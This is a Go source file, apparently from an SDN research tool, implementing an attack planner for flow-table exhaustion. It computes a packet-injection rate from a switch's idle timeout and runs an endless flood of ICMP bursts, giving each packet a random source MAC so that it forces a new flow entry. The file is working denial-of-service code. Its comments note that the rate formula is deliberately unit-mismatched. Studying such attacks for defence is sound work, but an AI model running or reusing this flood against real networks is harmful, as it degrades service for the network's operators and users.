package attack

import (
	"context"
	"fmt"
	"log/slog"
	"math/rand"
	"strconv"

	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"

	"github.com/ssmendon/sdnprobe/internal/core/domain"
	"github.com/ssmendon/sdnprobe/internal/core/ports"
	"github.com/ssmendon/sdnprobe/internal/telemetry"
)

// DefaultMaxCount is the burst size from spec.md §4.7.
const DefaultMaxCount = 1000

// rateBuffer compensates for the time spent crafting the next burst
// (spec.md §4.7).
const rateBuffer = 100

// Planner computes the minimum packet-injection rate for a category and
// drives an unbounded flood loop over a ports.Transport. Category 1 and 2
// have no supported rate; spec.md §9 point 2 leaves a hard-only variant
// unimplemented in the reference.
type Planner struct {
	Transport   ports.Transport
	PayloadLen  int // L, bytes; default 1
	MaxCount    int // default 1000
	SrcIP       string
	DstIP       string
}

// NewPlanner builds a planner with spec.md's default payload length and
// burst size.
func NewPlanner(t ports.Transport, srcIP, dstIP string) *Planner {
	return &Planner{
		Transport:  t,
		PayloadLen: 1,
		MaxCount:   DefaultMaxCount,
		SrcIP:      srcIP,
		DstIP:      dstIP,
	}
}

func (p *Planner) defaults() {
	if p.PayloadLen <= 0 {
		p.PayloadLen = 1
	}
	if p.MaxCount <= 0 {
		p.MaxCount = DefaultMaxCount
	}
}

// Rate computes the minimum packets-per-second rate for category against
// the discovered idleTimeout, per spec.md §4.7's literal (and deliberately
// unit-mismatched, see spec.md §9 point 3) arithmetic.
func (p *Planner) Rate(category domain.AttackCategory, idleTimeout int) (int, error) {
	p.defaults()

	switch category {
	case domain.CategoryIdleOnly:
		return p.baseRate(idleTimeout), nil
	case domain.CategoryBoth:
		rate := p.baseRate(idleTimeout)
		if rate%2 != 0 {
			rate++
		}
		return rate, nil
	default:
		return 0, fmt.Errorf("attack: category %d: %w", category, domain.ErrAttackCategoryInvalid)
	}
}

func (p *Planner) baseRate(idleTimeout int) int {
	if idleTimeout <= 0 {
		idleTimeout = 1
	}
	return (p.MaxCount-1)*p.PayloadLen/idleTimeout + rateBuffer
}

// BuildBurst constructs MaxCount packets, each with a fresh random source
// MAC so every one installs a new flow-table entry (spec.md §4.7).
func (p *Planner) BuildBurst() []domain.ProbePacket {
	p.defaults()
	pkts := make([]domain.ProbePacket, p.MaxCount)
	for i := range pkts {
		pkts[i] = domain.ProbePacket{
			SrcMAC: domain.RandomMacIdentity().String(),
			SrcIP:  p.SrcIP,
			DstIP:  p.DstIP,
			ICMPID: uint16(rand.Intn(1 << 16)),
		}
	}
	return pkts
}

// Run drives the non-terminating flood loop from spec.md §4.7: refill a
// burst of fresh-MAC packets, pace them at rate pps, repeat, until ctx is
// cancelled.
func (p *Planner) Run(ctx context.Context, category domain.AttackCategory, idleTimeout int) error {
	ctx, span := otel.Tracer("sdnprobe/attack").Start(ctx, "Planner.Run")
	defer span.End()
	span.SetAttributes(attribute.Int("attack.category", int(category)), attribute.Int("attack.idle_timeout_seconds", idleTimeout))

	rate, err := p.Rate(category, idleTimeout)
	if err != nil {
		slog.Error("attack planner: invalid category, aborting", "category", category, "error", err)
		return err
	}
	span.SetAttributes(attribute.Int("attack.rate_pps", rate))
	slog.Info("attack planner: starting flood", "category", category, "pps", rate, "burst", p.MaxCount)

	label := strconv.Itoa(int(category))
	for {
		select {
		case <-ctx.Done():
			return ctx.Err()
		default:
		}

		burst := p.BuildBurst()
		if err := p.Transport.PacingSend(ctx, burst, rate); err != nil {
			telemetry.AttackTransmissionErrors.WithLabelValues(label).Inc()
			return err
		}
		telemetry.AttackPacketsSent.WithLabelValues(label).Add(float64(len(burst)))
	}
}
